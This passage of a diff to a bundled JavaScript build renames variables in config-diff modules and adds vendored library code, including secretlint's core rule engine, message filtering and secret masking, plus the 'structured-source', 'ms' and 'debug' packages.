-function factOf(pair2, { path: path25, before: before3, after: after2, cause, ...said13 }) {
-  const values2 = [said13.from, said13.to].filter((value) => value !== void 0).join("->");
-  const told4 = [said13.what, values2].filter(Boolean).join(" ");
-  const where = factAt(placedIn(pair2, before3, after2), path25.map(key), told4, { before: before3, after: after2 });
-  const group5 = cause === void 0 ? {} : { group: `${cause}: ${said13.what === "operation-moved" ? said13.what : told4}` };
-  return { kind: "api-changed", ...where, ...said13, ...group5 };
+function factOf(pair2, { path: path26, before: before3, after: after2, cause, ...said14 }) {
+  const values2 = [said14.from, said14.to].filter((value) => value !== void 0).join("->");
+  const told4 = [said14.what, values2].filter(Boolean).join(" ");
+  const where = factAt(placedIn(pair2, before3, after2), path26.map(key), told4, { before: before3, after: after2 });
+  const group5 = cause === void 0 ? {} : { group: `${cause}: ${said14.what === "operation-moved" ? said14.what : told4}` };
+  return { kind: "api-changed", ...where, ...said14, ...group5 };
 }
 var init_facts2 = __esm({
   "src/domains/config/openapi/facts.ts"() {
@@ -18050,10 +18305,10 @@ var init_openapi = __esm({
 // src/domains/config/serverless/model.ts
 function statementFacts(pair2) {
   const [before3, after2] = [pair2.before, pair2.after].map(
-    (document2) => STATEMENTS.map((path26) => at(document2?.root, ...path26)).find((node2) => node2 !== void 0)
+    (document2) => STATEMENTS.map((path27) => at(document2?.root, ...path27)).find((node2) => node2 !== void 0)
   );
-  const path25 = STATEMENTS.find((each) => at((pair2.after ?? pair2.before)?.root, ...each) !== void 0) ?? [];
-  return comparePolicies(pair2, { name: "provider", path: path25 }, asPolicy(before3), asPolicy(after2));
+  const path26 = STATEMENTS.find((each) => at((pair2.after ?? pair2.before)?.root, ...each) !== void 0) ?? [];
+  return comparePolicies(pair2, { name: "provider", path: path26 }, asPolicy(before3), asPolicy(after2));
 }
 var isService, STATEMENTS, asPolicy, inFunction, inEvent;
 var init_model6 = __esm({
@@ -18061,7 +18316,7 @@ var init_model6 = __esm({
     "use strict";
     init_policies();
     init_tree();
-    isService = ({ path: path25, root }) => at(root, "provider") !== void 0 && (/(?:^|\/)serverless\.(?:ya?ml|json)$/.test(path25) || textAt(root, "service") !== void 0 && textAt(root, "provider", "name") !== void 0);
+    isService = ({ path: path26, root }) => at(root, "provider") !== void 0 && (/(?:^|\/)serverless\.(?:ya?ml|json)$/.test(path26) || textAt(root, "service") !== void 0 && textAt(root, "provider", "name") !== void 0);
     STATEMENTS = [
       ["provider", "iamRoleStatements"],
       ["provider", "iam", "role", "statements"]
@@ -18118,6 +18373,5401 @@ var init_dialects = __esm({
       openapi_default,
       serverless_default
     ].flat();
+  }
+});
+
+// node_modules/boundary/lib/index.js
+var require_lib = __commonJS({
+  "node_modules/boundary/lib/index.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.binarySearch = exports.upperBound = exports.lowerBound = exports.compare = void 0;
+    function compare3(v1, v2) {
+      return v1 < v2;
+    }
+    exports.compare = compare3;
+    function upperBound(array2, value, comp = compare3) {
+      let len = array2.length;
+      let i = 0;
+      while (len) {
+        let diff2 = len >>> 1;
+        let cursor = i + diff2;
+        if (comp(value, array2[cursor])) {
+          len = diff2;
+        } else {
+          i = cursor + 1;
+          len -= diff2 + 1;
+        }
+      }
+      return i;
+    }
+    exports.upperBound = upperBound;
+    function lowerBound(array2, value, comp = compare3) {
+      let len = array2.length;
+      let i = 0;
+      while (len) {
+        let diff2 = len >>> 1;
+        let cursor = i + diff2;
+        if (comp(array2[cursor], value)) {
+          i = cursor + 1;
+          len -= diff2 + 1;
+        } else {
+          len = diff2;
+        }
+      }
+      return i;
+    }
+    exports.lowerBound = lowerBound;
+    function binarySearch(array2, value, comp = compare3) {
+      let cursor = lowerBound(array2, value, comp);
+      return cursor !== array2.length && !comp(value, array2[cursor]);
+    }
+    exports.binarySearch = binarySearch;
+  }
+});
+
+// node_modules/structured-source/lib/structured-source.js
+var require_structured_source = __commonJS({
+  "node_modules/structured-source/lib/structured-source.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.StructuredSource = void 0;
+    var boundary_1 = require_lib();
+    var StructuredSource2 = class {
+      /**
+       * @constructs StructuredSource
+       * @param {string} source - source code text.
+       */
+      constructor(source) {
+        this.indice = [0];
+        let regexp = /[\r\n\u2028\u2029]/g;
+        const length = source.length;
+        regexp.lastIndex = 0;
+        while (true) {
+          let result = regexp.exec(source);
+          if (!result) {
+            break;
+          }
+          let index = result.index;
+          if (source.charCodeAt(index) === 13 && source.charCodeAt(index + 1) === 10) {
+            index += 1;
+          }
+          let nextIndex = index + 1;
+          if (length < nextIndex) {
+            break;
+          }
+          this.indice.push(nextIndex);
+          regexp.lastIndex = nextIndex;
+        }
+      }
+      get line() {
+        return this.indice.length;
+      }
+      /**
+       * @param {SourceLocation} loc - location indicator.
+       * @return {[ number, number ]} range.
+       */
+      locationToRange(loc) {
+        return [this.positionToIndex(loc.start), this.positionToIndex(loc.end)];
+      }
+      /**
+       * @param {[ number, number ]} range - pair of indice.
+       * @return {SourceLocation} location.
+       */
+      rangeToLocation(range3) {
+        return {
+          start: this.indexToPosition(range3[0]),
+          end: this.indexToPosition(range3[1])
+        };
+      }
+      /**
+       * @param {SourcePosition} pos - position indicator.
+       * @return {number} index.
+       */
+      positionToIndex(pos) {
+        let start2 = this.indice[pos.line - 1];
+        return start2 + pos.column;
+      }
+      /**
+       * @param {number} index - index to the source code.
+       * @return {SourcePosition} position.
+       */
+      indexToPosition(index) {
+        const startLine = (0, boundary_1.upperBound)(this.indice, index);
+        return {
+          line: startLine,
+          column: index - this.indice[startLine - 1]
+        };
+      }
+    };
+    exports.StructuredSource = StructuredSource2;
+  }
+});
+
+// node_modules/@secretlint/core/module/helper/invariant.js
+function invariant(condition2, message4) {
+  if (!condition2)
+    throw new Error(message4);
+}
+var init_invariant = __esm({
+  "node_modules/@secretlint/core/module/helper/invariant.js"() {
+  }
+});
+
+// node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js
+var import_structured_source, SecretLintSourceCodeImpl;
+var init_SecretLintSourceCodeImpl = __esm({
+  "node_modules/@secretlint/core/module/SecretLintSourceCodeImpl.js"() {
+    import_structured_source = __toESM(require_structured_source(), 1);
+    init_invariant();
+    SecretLintSourceCodeImpl = class {
+      hasBOM;
+      content;
+      filePath;
+      physicalFilePath;
+      contentType;
+      ext;
+      structuredSource;
+      constructor({ content = "", ext, filePath, physicalFilePath, contentType }) {
+        invariant(ext || filePath, "should be set either of fileExt or filePath.");
+        this.hasBOM = content.charCodeAt(0) === 65279;
+        this.content = this.hasBOM ? content.slice(1) : content;
+        this.structuredSource = new import_structured_source.StructuredSource(this.content);
+        this.filePath = filePath;
+        this.physicalFilePath = physicalFilePath;
+        this.contentType = contentType;
+        this.ext = ext;
+      }
+      /**
+       * get file path
+       * This return `undefined` if the source code is created without file path.
+       * For example, use core API to create a source code directly.
+       *
+       * You can use this path to detect file type.
+       * However, if you want to read the file content, use `getPhysicalFilePath` instead.
+       * @returns {string|undefined}
+       */
+      getFilePath() {
+        return this.filePath;
+      }
+      /**
+       * get physical file path
+       * This return `undefined` if the source code is not related to file.
+       * For example, the source code is given from the stdin.
+       *
+       * You can use this path to read the file content.
+       */
+      getPhysicalFilePath() {
+        return this.physicalFilePath;
+      }
+      /**
+       * @param {SecretLintSourceNodeLocation} loc - location indicator.
+       * @return {[ number, number ]} range.
+       */
+      locationToRange(loc) {
+        return this.structuredSource.locationToRange(loc);
+      }
+      /**
+       * @param {[ number, number ]} range - pair of indice.
+       * @return {SecretLintSourceNodeLocation} location.
+       */
+      rangeToLocation(range3) {
+        const location3 = this.structuredSource.rangeToLocation(range3);
+        return {
+          start: {
+            line: location3.start.line,
+            column: location3.start.column
+          },
+          end: {
+            line: location3.end.line,
+            column: location3.end.column
+          }
+        };
+      }
+      /**
+       * @param {Position} pos - position indicator.
+       * @return {number} index.
+       */
+      positionToIndex(pos) {
+        return this.structuredSource.positionToIndex(pos);
+      }
+      /**
+       * @param {number} index - index to the source code.
+       * @return {Position} position.
+       */
+      indexToPosition(index) {
+        const position = this.structuredSource.indexToPosition(index);
+        return {
+          line: position.line,
+          column: position.column
+        };
+      }
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/helper/promise-event-emitter.js
+var EventEmitter, PromiseEventEmitter;
+var init_promise_event_emitter = __esm({
+  "node_modules/@secretlint/core/module/helper/promise-event-emitter.js"() {
+    EventEmitter = class {
+      #listeners = /* @__PURE__ */ new Map();
+      on(type, listener2) {
+        const prevSet = this.#listeners.get(type);
+        const listenerSet = prevSet ?? /* @__PURE__ */ new Set();
+        listenerSet?.add(listener2);
+        this.#listeners.set(type, listenerSet);
+      }
+      emit(type, ...args5) {
+        const listenerSet = this.#listeners.get(type);
+        if (!listenerSet) {
+          return;
+        }
+        for (const listenerSetElement of listenerSet) {
+          listenerSetElement(...args5);
+        }
+      }
+      off(type, listener2) {
+        const listenerSet = this.#listeners.get(type);
+        if (!listenerSet) {
+          return;
+        }
+        for (const listenerSetElement of listenerSet) {
+          if (listenerSetElement === listener2) {
+            listenerSet.delete(listener2);
+          }
+        }
+      }
+      removeAllListeners() {
+        this.#listeners.clear();
+      }
+      listenerCount(type) {
+        return this.#listeners.get(type)?.size ?? 0;
+      }
+      listeners(type) {
+        return Array.from(this.#listeners.get(type) ?? []);
+      }
+    };
+    PromiseEventEmitter = class {
+      events;
+      constructor() {
+        this.events = new EventEmitter();
+      }
+      listenerCount(type) {
+        return this.events.listenerCount(type);
+      }
+      on(event2, listener2) {
+        return this.events.on(event2, listener2);
+      }
+      emit(event2, ...args5) {
+        const promises = [];
+        this.events.listeners(event2).forEach((listener2) => {
+          promises.push(listener2(...args5));
+        });
+        return Promise.all(promises);
+      }
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/helper/SecretLintRuleMessageTranslator.js
+var DEFAULT_LOCAL, formatMessage, getMatchedLocaleMessage, createTranslator;
+var init_SecretLintRuleMessageTranslator = __esm({
+  "node_modules/@secretlint/core/module/helper/SecretLintRuleMessageTranslator.js"() {
+    DEFAULT_LOCAL = "en";
+    formatMessage = (messageHandler, props) => {
+      if (typeof props !== "object" || props === null) {
+        return messageHandler();
+      }
+      return messageHandler(props);
+    };
+    getMatchedLocaleMessage = (locale, locales) => {
+      const localKeys = Object.keys(locales);
+      const matchLocale = localKeys.find((key4) => {
+        return key4 === locale;
+      });
+      if (matchLocale) {
+        return matchLocale;
+      }
+      const [lang] = locale.split("-");
+      if (!lang) {
+        return DEFAULT_LOCAL;
+      }
+      const fallbackMatchLocal = localKeys.find((key4) => {
+        return key4 === lang;
+      });
+      if (fallbackMatchLocal) {
+        return fallbackMatchLocal;
+      }
+      return DEFAULT_LOCAL;
+    };
+    createTranslator = (messages2, options2) => {
+      return (messageId, props) => {
+        const messageHandler = messages2[messageId];
+        if (!messageHandler) {
+          throw new Error(`messages:${String(messageId)} is missing in messages.`);
+        }
+        if (typeof messageHandler === "function") {
+          if (typeof messageId !== "string") {
+            throw new Error(`message's key:${String(messageId)} should be string`);
+          }
+          return {
+            message: formatMessage(messageHandler, props),
+            messageId,
+            data: props
+          };
+        }
+        const defaultLocal = options2 && options2.defaultLocale ? options2.defaultLocale : DEFAULT_LOCAL;
+        const locale = getMatchedLocaleMessage(defaultLocal, messageHandler);
+        const localizedMessage = messageHandler[locale];
+        if (!localizedMessage) {
+          if (messageHandler[DEFAULT_LOCAL]) {
+            throw new Error(`messages${String(messageId)}.${locale} is missing in messages.`);
+          }
+          throw new Error(`message's key:${String(messageId)}.${DEFAULT_LOCAL} should be defined in messages.`);
+        }
+        if (typeof messageId !== "string") {
+          throw new Error(`message's key:${String(messageId)}.${DEFAULT_LOCAL} should be string`);
+        }
+        return {
+          message: formatMessage(localizedMessage, props),
+          messageId,
+          data: props
+        };
+      };
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/RuleContext.js
+var createContextEvents, createRuleContext;
+var init_RuleContext = __esm({
+  "node_modules/@secretlint/core/module/RuleContext.js"() {
+    init_promise_event_emitter();
+    init_SecretLintRuleMessageTranslator();
+    createContextEvents = () => {
+      const contextEvents = new EventEmitter();
+      const REPORT_SYMBOL = /* @__PURE__ */ Symbol("report");
+      const IGNORE_SYMBOL = /* @__PURE__ */ Symbol("ignore");
+      return {
+        report(descriptor) {
+          contextEvents.emit(REPORT_SYMBOL, descriptor);
+        },
+        onReport(handler) {
+          const listener2 = (descriptor) => {
+            handler(descriptor);
+          };
+          contextEvents.on(REPORT_SYMBOL, listener2);
+          return () => {
+            contextEvents.off(REPORT_SYMBOL, listener2);
+          };
+        },
+        ignore(descriptor) {
+          contextEvents.emit(IGNORE_SYMBOL, descriptor);
+        },
+        onIgnore(handler) {
+          const listener2 = (descriptor) => {
+            handler(descriptor);
+          };
+          contextEvents.on(IGNORE_SYMBOL, listener2);
+          return () => {
+            contextEvents.off(IGNORE_SYMBOL, listener2);
+          };
+        }
+      };
+    };
+    createRuleContext = ({ ruleId, ruleParentId, meta, severity, sourceCode, contextEvents, sharedOptions, locale }) => {
+      return {
+        sharedOptions,
+        createTranslator: (messages2) => {
+          return createTranslator(messages2, {
+            defaultLocale: locale
+          });
+        },
+        ignore(descriptor) {
+          const { message: message4 } = descriptor.message;
+          contextEvents.ignore({
+            type: "ignore",
+            ruleId,
+            ruleParentId,
+            range: descriptor.range,
+            targetRuleId: descriptor.targetRuleId,
+            loc: sourceCode.rangeToLocation(descriptor.range),
+            message: message4
+          });
+        },
+        report(descriptor) {
+          const { message: message4, messageId, data } = descriptor.message;
+          const severityLevel = severity ?? "error";
+          if (ruleParentId) {
+            contextEvents.report({
+              ...descriptor,
+              type: "message",
+              ruleId,
+              ruleParentId,
+              loc: sourceCode.rangeToLocation(descriptor.range),
+              severity: severityLevel,
+              message: message4,
+              messageId,
+              docsUrl: meta.docs?.url ? `${meta.docs.url}#${messageId}` : void 0,
+              data
+            });
+          } else {
+            contextEvents.report({
+              ...descriptor,
+              type: "message",
+              ruleId,
+              loc: sourceCode.rangeToLocation(descriptor.range),
+              severity: severityLevel,
+              message: message4,
+              messageId,
+              docsUrl: meta.docs?.url ? `${meta.docs.url}#${messageId}` : void 0,
+              data
+            });
+          }
+        }
+      };
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/SecretLintRuleImpl.js
+var SecretLintRule;
+var init_SecretLintRuleImpl = __esm({
+  "node_modules/@secretlint/core/module/SecretLintRuleImpl.js"() {
+    SecretLintRule = class {
+      ruleReportHandle;
+      ruleCreator;
+      descriptorRule;
+      constructor({ descriptorRule, context }) {
+        this.descriptorRule = descriptorRule;
+        this.ruleCreator = descriptorRule.rule;
+        const ruleCreatorOptions = descriptorRule.options || {};
+        this.ruleReportHandle = this.ruleCreator.create(context, ruleCreatorOptions);
+      }
+      allowMessageIds() {
+        if (!this.descriptorRule.allowMessageIds) {
+          return [];
+        }
+        const ruleId = this.ruleCreator.meta.id;
+        return this.descriptorRule.allowMessageIds.map((allowMessageId) => {
+          return {
+            messageId: allowMessageId,
+            ruleId
+          };
+        });
+      }
+      supportSourceCode(sourceCode) {
+        const contentType = sourceCode.contentType;
+        if (contentType === "unknown") {
+          return true;
+        }
+        if (this.ruleCreator.meta.supportedContentTypes.includes("all")) {
+          return true;
+        }
+        return this.ruleCreator.meta.supportedContentTypes.includes(contentType);
+      }
+      async file(source) {
+        const file2 = this.ruleReportHandle.file;
+        if (!file2) {
+          return;
+        }
+        return file2(source);
+      }
+    };
+  }
+});
+
+// node_modules/@secretlint/profiler/module/index.js
+var SecretLintProfiler;
+var init_module = __esm({
+  "node_modules/@secretlint/profiler/module/index.js"() {
+    SecretLintProfiler = class {
+      perf;
+      entries = [];
+      measures = [];
+      executionPromises = [];
+      constructor(options2) {
+        this.perf = options2.perf;
+        const pattern = /(.*?)::end(\|\|.*)?/;
+        const observer = new options2.PerformanceObserver((items) => {
+          const entries2 = items.getEntries();
+          entries2.forEach((entry2) => {
+            if (entry2.entryType === "mark") {
+              const match2 = entry2.name.match(pattern);
+              const endIdentifier = match2 ? match2[1] : void 0;
+              const suffix = match2 && match2[2] ? match2[2] : "";
+              if (endIdentifier) {
+                const startIdentifier = `${endIdentifier}::start`;
+                this.entries.find((savedEntry) => {
+                  return savedEntry.name === startIdentifier;
+                });
+                if (startIdentifier) {
+                  this.executionPromises.push(Promise.resolve().then(() => {
+                    this.perf.measure(endIdentifier + suffix, `${endIdentifier}::start${suffix}`, `${endIdentifier}::end${suffix}`);
+                  }));
+                }
+              }
+              this.entries.push(entry2);
+            } else if (entry2.entryType === "measure") {
+              this.measures.push(entry2);
+            }
+          });
+        });
+        observer.observe({ entryTypes: ["mark", "measure"] });
+      }
+      mark(marker) {
+        if ("id" in marker) {
+          this.perf.mark(`${marker.type}||${marker.id}`);
+        } else {
+          this.perf.mark(marker.type);
+        }
+      }
+      waifForExecutionPromises = () => {
+        return Promise.all(this.executionPromises).finally(() => {
+          this.executionPromises.length = 0;
+        });
+      };
+      async getEntries() {
+        await this.waifForExecutionPromises();
+        return this.entries;
+      }
+      async getMeasures() {
+        await this.waifForExecutionPromises();
+        return this.measures;
+      }
+    };
+  }
+});
+
+// node_modules/@secretlint/profiler/module/node.js
+import perf_hooks from "node:perf_hooks";
+var NullPerformanceObserver, secretLintProfiler;
+var init_node = __esm({
+  "node_modules/@secretlint/profiler/module/node.js"() {
+    init_module();
+    NullPerformanceObserver = class {
+      disconnect() {
+      }
+      observe(_options) {
+      }
+    };
+    secretLintProfiler = new SecretLintProfiler({
+      perf: perf_hooks.performance,
+      PerformanceObserver: perf_hooks.PerformanceObserver ? perf_hooks.PerformanceObserver : NullPerformanceObserver
+    });
+  }
+});
+
+// node_modules/@secretlint/core/module/RunningEvents.js
+var createRunningEvents;
+var init_RunningEvents = __esm({
+  "node_modules/@secretlint/core/module/RunningEvents.js"() {
+    init_promise_event_emitter();
+    init_SecretLintRuleImpl();
+    init_node();
+    createRunningEvents = () => {
+      const contextEvents = new PromiseEventEmitter();
+      const registerSet = /* @__PURE__ */ new Set();
+      const LINT_HANDLE = /* @__PURE__ */ Symbol("lint:start");
+      const rules8 = [];
+      return {
+        collectAllowMessageIds() {
+          const allowMessageIds = [];
+          rules8.forEach((rule) => {
+            allowMessageIds.push(...rule.allowMessageIds());
+          });
+          return allowMessageIds;
+        },
+        /**
+         * Start to run linting
+         * @param options
+         */
+        runLint(options2) {
+          return contextEvents.emit(LINT_HANDLE, options2);
+        },
+        registerRule({ descriptorRule, context }) {
+          if (registerSet.has(descriptorRule.id)) {
+            throw new Error(`rule.id:${descriptorRule.id} is already registered.
+                
+Duplicated rule.id is something wrong in .secretlintrc.                
+`);
+          }
+          registerSet.add(descriptorRule.id);
+          const rule = new SecretLintRule({
+            descriptorRule,
+            context
+          });
+          rules8.push(rule);
+          contextEvents.on(LINT_HANDLE, async ({ sourceCode }) => {
+            secretLintProfiler.mark({
+              type: "@core>rule-handler::start",
+              id: descriptorRule.rule.meta.id
+            });
+            if (rule.supportSourceCode(sourceCode)) {
+              await rule.file(sourceCode);
+            }
+            secretLintProfiler.mark({
+              type: "@core>rule-handler::end",
+              id: descriptorRule.rule.meta.id
+            });
+          });
+        },
+        registerRulePreset({ descriptorRulePreset, context }) {
+          const rulePresetCreatorOptions = descriptorRulePreset.options || [];
+          descriptorRulePreset.rule.create(context, rulePresetCreatorOptions);
+        },
+        isRegistered(ruleId) {
+          return registerSet.has(ruleId);
+        }
+      };
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/RulePresetContext.js
+var createRulePresetContext;
+var init_RulePresetContext = __esm({
+  "node_modules/@secretlint/core/module/RulePresetContext.js"() {
+    init_RuleContext();
+    createRulePresetContext = ({ configRulePreset, sourceCode, runningEvents, contextEvents, sharedOptions, locale }) => {
+      const presetRules = configRulePreset.rules || [];
+      if (!Array.isArray(presetRules)) {
+        console.error(`${configRulePreset.id}:PresetRules is invalid format`, presetRules);
+        throw new Error("preset's rules should be an array of rule definitions");
+      }
+      return {
+        sharedOptions,
+        registerRule(rule, defaultValue) {
+          const descriptorRule = presetRules.find((descriptorRule2) => {
+            return descriptorRule2.id === rule.meta.id;
+          });
+          const descriptorRuleOptions = descriptorRule ? descriptorRule.options : void 0;
+          const descriptorRuleDisabled = descriptorRule ? descriptorRule.disabled : void 0;
+          const descriptorRuleSeverity = descriptorRule ? descriptorRule.severity : void 0;
+          const descriptorAllowMessageIds = descriptorRule ? descriptorRule.allowMessageIds : void 0;
+          const context = createRuleContext({
+            // rule id is a single rule in a preset
+            ruleId: rule.meta.id,
+            // parent rule id is rule preset id
+            ruleParentId: configRulePreset.id,
+            meta: rule.meta,
+            severity: descriptorRuleSeverity,
+            sourceCode,
+            contextEvents,
+            sharedOptions,
+            locale
+          });
+          const defaultValueOfPreset = defaultValue ? defaultValue : {};
+          runningEvents.registerRule({
+            descriptorRule: {
+              // options and disabled ...
+              ...defaultValueOfPreset,
+              // Prefer to use user setting
+              // User can override preset setting
+              ...descriptorRule,
+              id: rule.meta.id,
+              options: descriptorRuleOptions,
+              rule,
+              disabled: descriptorRuleDisabled,
+              allowMessageIds: descriptorAllowMessageIds,
+              severity: descriptorRuleSeverity
+            },
+            context
+          });
+        }
+      };
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/messages/filter-ignored-process.js
+function filterIgnoredMessages(options2) {
+  const reportedMessages = options2.reportedMessages;
+  const ignoreMessages = options2.ignoredMessages;
+  return reportedMessages.filter((message4) => {
+    return !ignoreMessages.some((ignoreMessage) => {
+      const isInIgnoringRange = isContainedRange(message4.range[0], ignoreMessage.range) && isContainedRange(message4.range[1], ignoreMessage.range);
+      if (isInIgnoringRange && ignoreMessage.targetRuleId) {
+        if (ignoreMessage.targetRuleId === "*") {
+          return true;
+        }
+        return message4.ruleId === ignoreMessage.targetRuleId;
+      }
+      return isInIgnoringRange;
+    });
+  });
+}
+var isContainedRange;
+var init_filter_ignored_process = __esm({
+  "node_modules/@secretlint/core/module/messages/filter-ignored-process.js"() {
+    isContainedRange = (index, range3) => {
+      const [start2, end] = range3;
+      return start2 <= index && index <= end;
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/messages/MessageProcessManager.js
+var createMessageProcessor;
+var init_MessageProcessManager = __esm({
+  "node_modules/@secretlint/core/module/messages/MessageProcessManager.js"() {
+    createMessageProcessor = (processors) => {
+      return {
+        /**
+         * process `messages` with registered processes
+         */
+        process(messages2) {
+          const originalMessages = messages2;
+          if (processors.length === 0) {
+            throw new Error("processors should be > 0");
+          }
+          return processors.reduce((messages3, filter) => {
+            return filter(messages3);
+          }, originalMessages);
+        }
+      };
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/messages/filter-duplicated-process.js
+function filterDuplicatedMessages(messages2 = []) {
+  return messages2.filter((message4, index) => {
+    const restMessages = messages2.slice(index + 1);
+    return !restMessages.some((restMessage) => {
+      return isEqualMessage(message4, restMessage);
+    });
+  });
+}
+var isEqualMessage;
+var init_filter_duplicated_process = __esm({
+  "node_modules/@secretlint/core/module/messages/filter-duplicated-process.js"() {
+    isEqualMessage = (aMessage, bMessage) => {
+      return aMessage.range[0] === bMessage.range[0] && aMessage.range[1] === bMessage.range[1] && "severity" in aMessage && "severity" in bMessage && aMessage.severity === bMessage.severity && aMessage.message === bMessage.message;
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/messages/sort-messages-process.js
+function sortMessagesByLocation(messages2) {
+  return messages2.sort(function(a, b3) {
+    const startIndexDiff = a.range[0] - b3.range[0];
+    if (startIndexDiff === 0) {
+      return a.range[1] - b3.range[1];
+    } else {
+      return startIndexDiff;
+    }
+  });
+}
+var init_sort_messages_process = __esm({
+  "node_modules/@secretlint/core/module/messages/sort-messages-process.js"() {
+  }
+});
+
+// node_modules/@secretlint/core/module/messages/filter-message-id.js
+var filterByAllowMessageIds;
+var init_filter_message_id = __esm({
+  "node_modules/@secretlint/core/module/messages/filter-message-id.js"() {
+    filterByAllowMessageIds = (messages2, allowMessageIds) => {
+      const disabledSet = new Set(allowMessageIds.map((allowMessage) => {
+        return `${allowMessage.ruleId}--${allowMessage.messageId}`;
+      }));
+      return messages2.filter((message4) => {
+        return !disabledSet.has(`${message4.ruleId}--${message4.messageId}`);
+      });
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/messages/filter-mask-secrets.js
+var deepMask, createMaskValue, maskWithValues, filterMaskSecretsData;
+var init_filter_mask_secrets = __esm({
+  "node_modules/@secretlint/core/module/messages/filter-mask-secrets.js"() {
+    deepMask = (object3, handler) => {
+      for (const key4 of Object.keys(object3)) {
+        if (typeof object3[key4] === "object") {
+          object3[key4] = deepMask(object3[key4], handler);
+        } else if (Array.isArray(object3[key4])) {
+          object3[key4] = object3[key4].map((item2) => deepMask(item2, handler));
+        } else if (typeof object3[key4] === "string") {
+          object3[key4] = handler(object3[key4]);
+        }
+      }
+      return object3;
+    };
+    createMaskValue = (value) => {
+      return "*".repeat(value.length);
+    };
+    maskWithValues = (str, maskedValues) => {
+      let result = str;
+      for (const maskValue of maskedValues) {
+        result = result.replaceAll(maskValue, "*".repeat(maskValue.length));
+      }
+      return result;
+    };
+    filterMaskSecretsData = (messages2 = []) => {
+      return messages2.map((message4) => {
+        if (message4.type !== "message") {
+          return message4;
+        }
+        const maskedValues = [];
+        const maskedData = message4.data ? deepMask(message4.data, (value) => {
+          maskedValues.push(value);
+          return createMaskValue(value);
+        }) : void 0;
+        if (!maskedData) {
+          return message4;
+        }
+        const maskedMessage = maskWithValues(message4.message, maskedValues);
+        return {
+          ...message4,
+          message: maskedMessage,
+          data: maskedData
+        };
+      });
+    };
+  }
+});
+
+// node_modules/@secretlint/core/module/messages/index.js
+var cleanupMessages;
+var init_messages2 = __esm({
+  "node_modules/@secretlint/core/module/messages/index.js"() {
+    init_filter_ignored_process();
+    init_MessageProcessManager();
+    init_filter_duplicated_process();
+    init_sort_messages_process();
+    init_filter_message_id();
+    init_filter_mask_secrets();
+    cleanupMessages = (options2) => {
+      const reportedMessages = filterIgnoredMessages(options2);
+      const reportedMessagesWithoutAllowMessageIds = filterByAllowMessageIds(reportedMessages, options2.allowMessageIds);
+      const filters3 = options2.maskSecrets ? [filterDuplicatedMessages, filterMaskSecretsData] : [filterDuplicatedMessages];
+      const filterProcess = createMessageProcessor(filters3);
+      return sortMessagesByLocation(filterProcess.process(reportedMessagesWithoutAllowMessageIds));
+    };
+  }
+});
+
+// node_modules/ms/index.js
+var require_ms = __commonJS({
+  "node_modules/ms/index.js"(exports, module) {
+    var s = 1e3;
+    var m3 = s * 60;
+    var h3 = m3 * 60;
+    var d2 = h3 * 24;
+    var w2 = d2 * 7;
+    var y2 = d2 * 365.25;
+    module.exports = function(val, options2) {
+      options2 = options2 || {};
+      var type = typeof val;
+      if (type === "string" && val.length > 0) {
+        return parse8(val);
+      } else if (type === "number" && isFinite(val)) {
+        return options2.long ? fmtLong(val) : fmtShort(val);
+      }
+      throw new Error(
+        "val is not a non-empty string or a valid number. val=" + JSON.stringify(val)
+      );
+    };
+    function parse8(str) {
+      str = String(str);
+      if (str.length > 100) {
+        return;
+      }
+      var match2 = /^(-?(?:\d+)?\.?\d+) *(milliseconds?|msecs?|ms|seconds?|secs?|s|minutes?|mins?|m|hours?|hrs?|h|days?|d|weeks?|w|years?|yrs?|y)?$/i.exec(
+        str
+      );
+      if (!match2) {
+        return;
+      }
+      var n = parseFloat(match2[1]);
+      var type = (match2[2] || "ms").toLowerCase();
+      switch (type) {
+        case "years":
+        case "year":
+        case "yrs":
+        case "yr":
+        case "y":
+          return n * y2;
+        case "weeks":
+        case "week":
+        case "w":
+          return n * w2;
+        case "days":
+        case "day":
+        case "d":
+          return n * d2;
+        case "hours":
+        case "hour":
+        case "hrs":
+        case "hr":
+        case "h":
+          return n * h3;
+        case "minutes":
+        case "minute":
+        case "mins":
+        case "min":
+        case "m":
+          return n * m3;
+        case "seconds":
+        case "second":
+        case "secs":
+        case "sec":
+        case "s":
+          return n * s;
+        case "milliseconds":
+        case "millisecond":
+        case "msecs":
+        case "msec":
+        case "ms":
+          return n;
+        default:
+          return void 0;
+      }
+    }
+    function fmtShort(ms2) {
+      var msAbs = Math.abs(ms2);
+      if (msAbs >= d2) {
+        return Math.round(ms2 / d2) + "d";
+      }
+      if (msAbs >= h3) {
+        return Math.round(ms2 / h3) + "h";
+      }
+      if (msAbs >= m3) {
+        return Math.round(ms2 / m3) + "m";
+      }
+      if (msAbs >= s) {
+        return Math.round(ms2 / s) + "s";
+      }
+      return ms2 + "ms";
+    }
+    function fmtLong(ms2) {
+      var msAbs = Math.abs(ms2);
+      if (msAbs >= d2) {
+        return plural(ms2, msAbs, d2, "day");
+      }
+      if (msAbs >= h3) {
+        return plural(ms2, msAbs, h3, "hour");
+      }
+      if (msAbs >= m3) {
+        return plural(ms2, msAbs, m3, "minute");
+      }
+      if (msAbs >= s) {
+        return plural(ms2, msAbs, s, "second");
+      }
+      return ms2 + " ms";
+    }
+    function plural(ms2, msAbs, n, name) {
+      var isPlural = msAbs >= n * 1.5;
+      return Math.round(ms2 / n) + " " + name + (isPlural ? "s" : "");
+    }
+  }
+});
+
+// node_modules/debug/src/common.js
+var require_common = __commonJS({
+  "node_modules/debug/src/common.js"(exports, module) {
+    function setup2(env) {
+      createDebug.debug = createDebug;
+      createDebug.default = createDebug;
+      createDebug.coerce = coerce;
+      createDebug.disable = disable;
+      createDebug.enable = enable;
+      createDebug.enabled = enabled;
+      createDebug.humanize = require_ms();
+      createDebug.destroy = destroy;
+      Object.keys(env).forEach((key4) => {
+        createDebug[key4] = env[key4];
+      });
+      createDebug.names = [];
+      createDebug.skips = [];
+      createDebug.formatters = {};
